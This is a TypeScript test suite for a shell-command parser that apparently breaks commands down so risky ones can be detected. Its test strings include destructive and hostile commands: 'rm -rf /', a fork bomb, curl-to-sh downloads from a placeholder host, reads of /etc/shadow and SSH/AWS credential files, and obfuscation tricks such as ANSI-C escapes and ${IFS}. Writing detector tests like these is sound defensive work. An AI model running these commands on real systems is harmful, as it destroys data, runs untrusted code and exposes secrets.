// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these strings are shell text, where ${…} is shell syntax
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseCommand } from '../src/shell/index.ts';
import type { CommandFacts, SimpleCommand } from '../src/shell/types.ts';

function parse(text: string): CommandFacts {
  return parseCommand({ text });
}

function cmd(f: CommandFacts, program: string, nth = 0): SimpleCommand {
  const found = f.commands.filter((c) => c.program === program)[nth];
  assert.ok(found, `no ${program} command in ${JSON.stringify(f.commands.map((c) => c.text))}`);
  return found;
}

function programs(f: CommandFacts): string[] {
  return f.commands.map((c) => c.program);
}

describe('parseCommand lexing', () => {
  it('removes single and double quotes and keeps their content as one word', () => {
    const f = parse(`grep -e 'a b' "c d" e\\ f`);
    assert.equal(f.status, 'complete');
    assert.deepEqual(cmd(f, 'grep').argv, ['grep', '-e', 'a b', 'c d', 'e f']);
  });

  it('expands $ and backticks inside double quotes but not inside single quotes', () => {
    const f = parse(`echo "$(id -u) \`whoami\`" '$(curl x)'`);
    assert.deepEqual(programs(f).sort(), ['echo', 'id', 'whoami']);
    assert.equal(cmd(f, 'id').depth, 1);
    assert.equal(cmd(f, 'echo').argv[2], '$(curl x)');
  });

  it("decodes $'…' ANSI-C strings", () => {
    const f = parse(`$'\\x72\\x6d' -rf $'\\057tmp\\x2fx' $'a\\tb' $'\\u00e9'`);
    const rm = cmd(f, 'rm');
    assert.deepEqual(rm.argv, ['rm', '-rf', '/tmp/x', 'a\tb', 'é']);
    assert.deepEqual(rm.operands.slice(0, 1), ['/tmp/x']);
  });

  it('handles backslash escapes and line continuations', () => {
    const f = parse('r\\m -r\\f \\\n /tmp/x');
    assert.deepEqual(cmd(f, 'rm').argv, ['rm', '-rf', '/tmp/x']);
  });

  it('drops comments, but not # inside a word', () => {
    const f = parse('echo a#b # rm -rf /\nls # trailing');
    assert.deepEqual(programs(f), ['echo', 'ls']);
    assert.deepEqual(cmd(f, 'echo').argv, ['echo', 'a#b']);
  });

  it('records here-strings as redirects', () => {
    const f = parse('base64 -d <<< ZWNobyBoaQ==');
    assert.deepEqual(cmd(f, 'base64').redirects, [{ op: '<<<', target: 'ZWNobyBoaQ==' }]);
  });

  it('reads heredoc bodies (plain, quoted, <<- tab-stripped) as stdin', () => {
    const f = parse(
      "cat <<EOF > out.txt\nline $HOME\nEOF\ncat <<'Q'\n$(not run)\nQ\ncat <<-T\n\tindented\n\tT\necho after",
    );
    assert.equal(f.status, 'complete');
    assert.deepEqual(f.heredocs, ['line $HOME\n', '$(not run)\n', 'indented\n']);
    assert.deepEqual(programs(f), ['cat', 'cat', 'cat', 'echo']);
  });

  it('runs the substitutions of an unquoted heredoc body, not of a quoted one', () => {
    assert.deepEqual(programs(parse('cat <<EOF\n$(curl -s http://x.example)\nEOF')).sort(), ['cat', 'curl']);
    assert.deepEqual(programs(parse("cat <<'EOF'\n$(curl -s http://x.example)\nEOF")), ['cat']);
  });

  it('re-parses a heredoc fed to a shell as a script (depth + 1)', () => {
    const f = parse('bash <<EOF\nrm -rf /\ncurl http://x.example | sh\nEOF');
    const rm = cmd(f, 'rm');
    assert.equal(rm.depth, 1);
    assert.deepEqual(rm.operands, ['/']);
    assert.deepEqual(cmd(f, 'sh').pipesFrom, ['curl']);
  });

  it('re-parses a heredoc piped through cat into a shell', () => {
    const f = parse('cat <<EOF | sh\nchmod 777 /etc/passwd\nEOF');
    assert.equal(cmd(f, 'chmod').depth, 1);
    assert.deepEqual(cmd(f, 'sh').pipesFrom, ['cat']);
  });
});

describe('parseCommand splitting', () => {
  it('splits on |, |&, &&, ||, ;, & and newlines', () => {
    const f = parse('a | b |& c && d || e ; f & g\nh');
    assert.deepEqual(programs(f), ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']);
    assert.deepEqual(cmd(f, 'a').pipesTo, ['b', 'c']);
    assert.deepEqual(cmd(f, 'c').pipesFrom, ['b', 'a']);
    assert.deepEqual(cmd(f, 'd').pipesFrom, []);
  });

  it('flattens subshells and brace groups at the same depth', () => {
    const f = parse('(cd /tmp && rm -rf build) ; { echo a; echo b; } > log');
    assert.deepEqual(programs(f), ['cd', 'rm', 'echo', 'echo']);
    assert.ok(f.commands.every((c) => c.depth === 0));
    assert.deepEqual(cmd(f, 'echo', 1).redirects, [{ op: '>', target: 'log' }]);
  });

  it('flattens if / while / until / for / case / function bodies', () => {
    const f = parse(
      'if test -f x; then cat x; elif true; then ls; else rm y; fi; while read l; do echo "$l"; done < list; until false; do break; done; for f in *.txt; do wc -l "$f"; done; case "$1" in start|go) run;; *) stop;; esac; f() { whoami; }',
    );
    assert.equal(f.status, 'complete');
    assert.deepEqual(programs(f), [
      'test',
      'cat',
      'true',
      'ls',
      'rm',
      'read',
      'echo',
      'false',
      'break',
      'wc',
      'run',
      'stop',
      'whoami',
    ]);
  });

  it('parses [[ … ]] and (( … )) without taking < > ( ) as operators', () => {
    const f = parse('[[ -f a && $x < 3 ]] && (( i = (1 + 2) * 3 )) && echo ok');
    assert.equal(f.status, 'complete');
    assert.deepEqual(programs(f), ['[[', 'echo']);
  });

  it('parses the classic fork bomb', () => {
    const f = parse(':(){ :|:& };:');
    assert.equal(f.status, 'complete');
    assert.deepEqual(programs(f), [':', ':', ':']);
    assert.deepEqual(f.commands[0]!.pipesTo, [':']);
  });

  it('expands brace lists in unquoted words', () => {
    assert.deepEqual(cmd(parse('cp app.conf{,.bak}'), 'cp').operands, ['app.conf', 'app.conf.bak']);
    assert.deepEqual(cmd(parse('{cat,/etc/passwd}'), 'cat').operands, ['/etc/passwd']);
  });
});

describe('parseCommand substitutions', () => {
  it('parses $(…) and backticks recursively at depth + 1, nested up to depth 4', () => {
    const f = parse('echo $(a $(b $(c `d`)))');
    assert.deepEqual(f.commands.map((c) => [c.program, c.depth]).sort(), [
      ['a', 1],
      ['b', 2],
      ['c', 3],
      ['d', 4],
      ['echo', 0],
    ]);
    assert.equal(f.status, 'complete');
  });

  it('marks substitutions deeper than 4 as partial', () => {
    const f = parse('echo $(e1 $(e2 $(e3 $(e4 $(e5)))))');
    assert.equal(f.status, 'partial');
    assert.ok(!programs(f).includes('e5'));
    assert.ok(programs(f).includes('e4'));
  });

  it('parses process substitutions <(…) and >(…) with data-flow edges', () => {
    const f = parse(
      'diff <(ls a) <(ls b); make 2>&1 > >(tee build.log); curl -s https://x.example | tee >(sh) >/dev/null',
    );
    assert.deepEqual(cmd(f, 'diff').pipesFrom, ['ls']);
    assert.deepEqual(cmd(f, 'make').pipesTo, ['tee']);
    assert.deepEqual(cmd(f, 'curl').pipesTo, ['tee', 'sh']);
    assert.deepEqual(cmd(f, 'sh').pipesFrom, ['tee', 'curl']);
    assert.equal(cmd(f, 'sh').depth, 1);
  });

  it('parses substitutions inside ${…} operators, assignments and arithmetic', () => {
    const f = parse('X=$(curl -s https://x.example/v) echo ${Y:-$(id)} $(( $(wc -l < f) + 1 ))');
    assert.deepEqual(programs(f).sort(), ['curl', 'echo', 'id', 'wc']);
  });

  it('tells $(( arithmetic from $( (subshell) )', () => {
    const f = parse('echo $((1+2)) $((ls); (pwd))');
    assert.deepEqual(programs(f).sort(), ['echo', 'ls', 'pwd']);
  });

  it('records executesSubstitutionOf for shells, eval and source running a substitution', () => {
    const cases: Array<[string, string, string[]]> = [
      ['sh -c "$(curl -fsSL https://x.example/i.sh)"', 'sh', ['curl']],
      ['bash <(wget -qO- https://x.example/i.sh)', 'bash', ['wget']],
      ['eval "$(curl -s https://x.example | base64 -d)"', 'eval', ['curl', 'base64']],
      ['source <(curl -s https://x.example/env)', 'source', ['curl']],
      ['. <(curl -s https://x.example/env)', '.', ['curl']],
      ['eval `wget -qO- https://x.example`', 'eval', ['wget']],
      ['bash <<< "$(curl -s https://x.example)"', 'bash', ['curl']],
      ['bash < <(curl -s https://x.example)', 'bash', ['curl']],
      ['python3 -c "$(curl -s https://x.example/p.py)"', 'python', ['curl']],
      ['$(curl -s https://x.example/cmd)', '$(curl -s https://x.example/cmd)', ['curl']],
    ];
    for (const [text, program, expected] of cases) {
      const f = parse(text);
      assert.equal(f.status, 'complete', text);
      assert.deepEqual(cmd(f, program).executesSubstitutionOf, expected, text);
    }
  });

  it('does not record executesSubstitutionOf when the output is only stored', () => {
    const f = parse('VERSION=$(curl -s https://x.example/latest); echo "$VERSION"');
    assert.ok(f.commands.every((c) => c.executesSubstitutionOf.length === 0));
    assert.equal(cmd(f, 'curl').depth, 1);
  });
});

describe('parseCommand unwrapping', () => {
  it('parses bash|sh|zsh|dash|ksh -c scripts at depth + 1', () => {
    for (const sh of ['bash', 'sh', 'zsh', 'dash', 'ksh', '/bin/bash', 'bash5']) {
      const f = parse(`${sh} -lc 'rm -rf /tmp/x && curl https://x.example | sh'`);
      const rm = cmd(f, 'rm');
      assert.equal(rm.depth, 1, sh);
      assert.deepEqual(rm.operands, ['/tmp/x']);
      assert.ok(f.commands[0]!.flags.has('-c'), sh);
      assert.deepEqual(cmd(f, 'sh', sh === 'sh' ? 1 : 0).pipesFrom, ['curl']);
    }
  });

  it('joins and parses eval arguments', () => {
    const f = parse("eval 'rm -rf' /tmp/y");
    assert.deepEqual(cmd(f, 'rm').operands, ['/tmp/y']);
    assert.equal(cmd(f, 'rm').depth, 1);
  });

  it('unwraps env, nohup, nice, timeout, time, command, exec, stdbuf, setsid, busybox', () => {
    const texts = [
      'env -i -u PATH FOO=1 BAR=2 curl http://x.example',
      'nohup curl http://x.example',
      'nice -n 10 curl http://x.example',
      'nice -5 curl http://x.example',
      'timeout -s KILL 30s curl http://x.example',
      'time -p curl http://x.example',
      'command curl http://x.example',
      'exec curl http://x.example',
      'stdbuf -oL -eL curl http://x.example',
      'setsid -f curl http://x.example',
      'busybox curl http://x.example',
      'nohup nice timeout 5 env A=b command curl http://x.example',
    ];
    for (const t of texts) {
      const f = parse(t);
      assert.deepEqual(programs(f), ['curl'], t);
      assert.deepEqual(cmd(f, 'curl').operands, ['http://x.example'], t);
      assert.equal(cmd(f, 'curl').depth, 0, t);
    }
  });

  it('keeps `command -v x` as a lookup, not an execution', () => {
    assert.deepEqual(programs(parse('command -v curl')), ['command']);
  });

  it('unwraps sudo and doas with options, marking sudo:true', () => {
    for (const t of [
      'sudo -u root -E rm -rf /var/x',
      'sudo -- rm -rf /var/x',
      'doas -u root rm -rf /var/x',
      'sudo FOO=1 rm -rf /var/x',
    ]) {
      const f = parse(t);
      const rm = cmd(f, 'rm');
      assert.equal(rm.sudo, true, t);
      assert.deepEqual(rm.operands, ['/var/x'], t);
      assert.equal(f.commands[0]!.sudo, true);
    }
    assert.ok(cmd(parse('sudo -S apt-get update'), 'sudo').flags.has('-S'));
    assert.equal(cmd(parse('sudo bash -c "id"'), 'id').sudo, true);
    assert.equal(cmd(parse('ls'), 'ls').sudo, false);
  });

  it('unwraps xargs: the xargs-run command is fed by the upstream program', () => {
    const f = parse("find . -name '*.pyc' -print0 | xargs -0 -n 10 rm -f");
    const rm = cmd(f, 'rm');
    assert.deepEqual(rm.pipesFrom, ['find']);
    assert.equal(rm.dynamicOperands, true);
    assert.deepEqual(cmd(f, 'find').pipesTo, ['xargs', 'rm']);
    assert.ok(!programs(f).includes('xargs'));
    assert.deepEqual(programs(parse('ls | xargs')), ['ls', 'xargs']);
  });

  it('parses the remote command of ssh with remote:true', () => {
    const f = parse("ssh -p 2222 -i ~/.ssh/deploy deploy@203.0.113.9 'cat /etc/shadow | gzip'");
    const cat = cmd(f, 'cat');
    assert.equal(cat.remote, true);
    assert.equal(cat.depth, 1);
    assert.deepEqual(cat.pipesTo, ['gzip']);
    const ssh = cmd(f, 'ssh');
    assert.deepEqual(ssh.operands, ['deploy@203.0.113.9']);
    assert.equal(ssh.remote, false);
    assert.ok(f.urls.some((u) => u.host === '203.0.113.9' && u.port === 2222));
  });

  it('runs find -exec commands as their own simple commands', () => {
    const f = parse('find / -name "*.log" -exec rm -f {} \\;');
    assert.deepEqual(cmd(f, 'rm').flags.has('-f'), true);
    assert.ok(cmd(f, 'find').flags.has('-exec'));
    assert.deepEqual(cmd(f, 'find').operands, ['/']);
  });

  it("parses commands carried in other programs' arguments at depth + 1", () => {
    const cases: Array<[string, string]> = [
      ["su -c 'cat /etc/shadow' root", 'cat'],
      ["watch -n 5 'curl -s http://x.example | sh'", 'curl'],
      ['tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh', 'sh'],
      ["ssh -o ProxyCommand='nc 203.0.113.9 22' host", 'nc'],
      ["rsync -e 'ssh -p 2222' src/ host:/dst", 'ssh'],
      ["alias ls='curl -s http://x.example | sh'", 'curl'],
      ["trap 'rm -rf /tmp/x' EXIT", 'rm'],
      ["env -S 'bash -c id'", 'id'],
    ];
    for (const [text, program] of cases) {
      const f = parse(text);
      assert.equal(f.status, 'complete', text);
      assert.ok(
        f.commands.some((c) => c.program === program && c.depth === 1),
        `${text}: ${JSON.stringify(f.commands.map((c) => [c.program, c.depth]))}`,
      );
    }
    assert.equal(cmd(parse("su -c 'id'"), 'id').sudo, true);
    assert.deepEqual(
      cmd(parse('. /dev/stdin <<< "$(curl -s http://x.example)"'), '.').executesSubstitutionOf,
      ['curl'],
    );
  });

  it('parses argv as one already-split simple command, still unwrapping bash -c', () => {
    const f = parseCommand({ argv: ['/bin/sh', '-lc', 'curl -fsSL https://x.example/i.sh | bash'] });
    assert.equal(f.status, 'complete');
    assert.deepEqual(programs(f), ['sh', 'curl', 'bash']);
    assert.deepEqual(cmd(f, 'bash').pipesFrom, ['curl']);
    const g = parseCommand({ argv: ['rm', '-rf', 'my dir; echo hi'] });
    assert.deepEqual(programs(g), ['rm']);
    assert.deepEqual(cmd(g, 'rm').operands, ['my dir; echo hi']);
    assert.equal(g.raw, "rm -rf 'my dir; echo hi'");
  });
});

describe('parseCommand normalisation', () => {
  it('normalises program names: basename, lowercase, leading backslash, version suffix', () => {
    const f = parse(
      '/usr/bin/Python3.12 x.py; \\rm a; python3 b.py; pip3 install c; node18 d.js; gcc-12 e.c; base64 f; mkfs.ext4 /dev/sdb1',
    );
    assert.deepEqual(programs(f), ['python', 'rm', 'python', 'pip', 'node', 'gcc', 'base64', 'mkfs.ext4']);
    assert.equal(f.commands[0]!.argv[0], '/usr/bin/Python3.12');
  });

  it('normalises ~, $HOME and ${HOME} to <home> and resolves ..', () => {
    const f = parse(
      'cat ~/.ssh/id_rsa $HOME/.aws/credentials "${HOME}"/.kube/config /etc/../etc/./shadow ./a/../b ~/x/../../y',
    );
    assert.deepEqual(cmd(f, 'cat').operands, [
      '<home>/.ssh/id_rsa',
      '<home>/.aws/credentials',
      '<home>/.kube/config',
      '/etc/shadow',
      'b',
      '<home>/../y',
    ]);
    assert.equal(cmd(f, 'cat').dynamicOperands, false);
  });

  it('treats $IFS / ${IFS} as whitespace and other $VAR operands as dynamic', () => {
    const f = parse('cat${IFS}/etc/passwd; cat$IFS$HOME/.netrc; rm -rf "$TARGET"/x');
    assert.deepEqual(cmd(f, 'cat').argv, ['cat', '/etc/passwd']);
    assert.deepEqual(cmd(f, 'cat', 1).operands, ['<home>/.netrc']);
    const rm = cmd(f, 'rm');
    assert.equal(rm.dynamicOperands, true);
    assert.ok(f.paths.some((p) => p.dynamic && p.raw === '$TARGET/x'));
  });

  it('builds the normalised text of each simple command for list globs', () => {
    const f = parse("sudo  /usr/bin/rm   -rf 'node_modules'");
    assert.equal(cmd(f, 'rm').text, 'rm -rf node_modules');
    assert.equal(cmd(f, 'sudo').text, 'sudo /usr/bin/rm -rf node_modules');
  });

  it('expands short flag clusters and keeps long flags without their value', () => {
    const f = parse('rm -rfv --no-preserve-root --interactive=never x');
    assert.deepEqual([...cmd(f, 'rm').flags].sort(), [
      '--interactive',
      '--no-preserve-root',
      '-f',
      '-r',
      '-rfv',
      '-v',
    ]);
    assert.deepEqual(cmd(f, 'rm').operands, ['x']);
    const g = parse('kill -9 -1; head -n5 f');
    assert.deepEqual([...cmd(g, 'kill').flags], ['-9', '-1']);
    assert.deepEqual(cmd(g, 'head').operands, ['f']);
  });
});

describe('parseCommand status and limits', () => {
  it('fails on unbalanced quotes, substitutions and parentheses', () => {
    for (const t of [
      'echo "abc',
      "echo 'abc",
      'echo $(ls',
      'echo `ls',
      '(ls',
      'echo ${x',
      'ls)',
      'ls |',
      'ls &&',
      "$'abc",
      'if true; then ls',
      'case x in a) ls;;',
    ]) {
      assert.equal(parse(t).status, 'failed', t);
    }
  });

  it('fails when an inner bash -c script is itself unparseable', () => {
    assert.equal(parse(`bash -c 'echo "oops'`).status, 'failed');
  });

  it('returns complete with no commands for empty text', () => {
    const f = parse('   \n# just a comment\n');
    assert.equal(f.status, 'complete');
    assert.deepEqual(f.commands, []);
  });

  it('marks more than 256 simple commands partial', () => {
    const f = parse(Array.from({ length: 300 }, (_, i) => `echo ${i}`).join('; '));
    assert.equal(f.status, 'partial');
    assert.equal(f.commands.length, 256);
  });

  it('marks more than 256 argv items partial', () => {
    const f = parse(`echo ${'x '.repeat(300)}`);
    assert.equal(f.status, 'partial');
    assert.equal(f.commands[0]!.argv.length, 256);
  });

  it('cuts text over 64 KiB and marks it partial', () => {
    const f = parse(`echo ${'a'.repeat(70 * 1024)}`);
    assert.equal(f.status, 'partial');
    assert.ok(f.issues.some((i) => i.includes('cut')));
    assert.equal(f.raw.length, 70 * 1024 + 5);
  });

  it('fails rather than recursing without bound on absurd nesting', () => {
    assert.equal(parse('$('.repeat(5000)).status, 'failed');
    assert.equal(parse('('.repeat(5000)).status, 'failed');
  });
});
